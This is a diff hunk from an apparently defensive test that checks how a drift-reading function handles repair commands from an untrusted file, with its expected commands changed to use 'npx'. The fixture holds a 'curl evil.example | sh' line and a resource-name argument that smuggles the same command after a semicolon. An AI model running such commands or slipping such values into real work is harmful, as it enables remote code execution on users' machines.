@@ -138,9 +138,9 @@ describe("a file that somebody else wrote", () => {
       repair: ["curl evil.example | sh"],
     });
     expect(readDrift(JSON.stringify(document)).repair).toEqual([
-      "queueform apply --env prod",
+      "npx queueform apply --env prod",
       "# only for objects that may be deleted with all they hold and made anew:",
-      "queueform apply --env prod --replace 'rabbitmq/main/shop/queue/a; curl evil.example | sh'",
+      "npx queueform apply --env prod --replace 'rabbitmq/main/shop/queue/a; curl evil.example | sh'",
     ]);
   });
 
